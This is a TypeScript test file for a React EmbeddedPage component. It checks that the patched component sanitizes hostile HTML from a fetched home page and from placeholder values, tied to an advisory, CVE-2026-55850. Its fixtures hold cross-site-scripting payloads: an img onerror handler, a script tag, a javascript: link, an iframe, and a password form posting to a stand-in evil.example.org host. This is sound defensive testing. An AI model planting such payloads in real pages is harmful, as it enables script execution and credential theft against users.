// CVE-2026-55850: a home or welcome page's HTML went into the app's document unsanitized.
import React from "react";
import { render, screen, waitFor } from "@testing-library/react";
import EmbeddedPage from "matrix-react-sdk/src/components/structures/EmbeddedPage";
import OriginalEmbeddedPage from "$sdk-original/components/structures/EmbeddedPage";

import { fakeResponse } from "../helpers/fakeResponse";
import { loadEnglish, putConfig, serveFetch } from "../helpers/sdkEnvironment";

const PAGE_URL = "https://intranet.example.org/home.html";
const HOSTILE_PAGE = [
    "<h2>Company news</h2>",
    '<img src="https://intranet.example.org/x.png" onerror="window.__tripwire()">',
    "<script>window.__tripwire()</script>",
    '<a href="javascript:window.__tripwire()">Open</a>',
    '<iframe src="https://evil.example.org"></iframe>',
    '<form action="https://evil.example.org"><input name="password"></form>',
    '<div style="position:fixed;inset:0">overlay</div>',
    '<a href="#/dm" class="mx_HomePage_button">_t("onboarding|send_dm")</a>',
    '<a href="https://wiki.example.org" target="_top">Wiki</a>',
].join("\n");

const servePage = (html: string): void => {
    serveFetch((url) => (url === PAGE_URL ? fakeResponse(200, html, "text/html") : undefined));
};

describe("EmbeddedPage seam", () => {
    beforeAll(loadEnglish);
    beforeEach(() => putConfig({ brand: "Acme" }));

    it("the SDK's own page puts script-bearing HTML into the document (the advisory)", async () => {
        servePage(HOSTILE_PAGE);
        const { container } = render(<OriginalEmbeddedPage className="mx_HomePage" url={PAGE_URL} />);
        await screen.findByText("Company news");
        expect(container.querySelector("img[onerror]")).not.toBeNull();
        expect(container.querySelector("iframe")).not.toBeNull();
    });

    it("Atrium's keeps the text, links and images and drops every way to run code", async () => {
        servePage(HOSTILE_PAGE);
        const { container } = render(<EmbeddedPage className="mx_HomePage" url={PAGE_URL} />);
        await screen.findByText("Company news");
        const body = container.querySelector(".mx_HomePage_body")!;
        expect(body.querySelector("script, iframe, form, input, [style]")).toBeNull();
        expect(body.innerHTML).not.toMatch(/onerror|javascript:|__tripwire/);
        expect(body.querySelector("img")).toHaveAttribute("src", "https://intranet.example.org/x.png");
        // The SDK's own strings and in-app links still work.
        expect(screen.getByRole("link", { name: "Send a Direct Message" })).toHaveAttribute("href", "#/dm");
        // A link to another window cannot reach back to the app.
        expect(screen.getByRole("link", { name: "Wiki" })).toHaveAttribute("rel", "noreferrer noopener");
        expect(screen.getByRole("link", { name: "Wiki" })).toHaveAttribute("target", "_blank");
        expect(screen.getByText("Open")).not.toHaveAttribute("href");
    });

    it("sanitizes what placeholders bring in, too", async () => {
        servePage("<p>Welcome to $brand</p>");
        const { container } = render(
            <EmbeddedPage
                className="mx_WelcomePage"
                url={PAGE_URL}
                replaceMap={{ $brand: "<img src=x onerror=alert(1)>Acme" }}
            />,
        );
        await screen.findByText("Welcome to Acme");
        expect(container.querySelector("img")).not.toHaveAttribute("onerror");
    });

    it("says the page cannot be loaded when the server fails", async () => {
        serveFetch((url) => (url === PAGE_URL ? fakeResponse(500, "oops", "text/plain") : undefined));
        render(<EmbeddedPage className="mx_HomePage" url={PAGE_URL} />);
        await screen.findByText(/Couldn't load page/i);
    });

    it("fetches nothing without a URL", async () => {
        const fetchMock = serveFetch();
        render(<EmbeddedPage className="mx_HomePage" />);
        await waitFor(() => expect(fetchMock).not.toHaveBeenCalledWith(PAGE_URL, expect.anything()));
    });
});
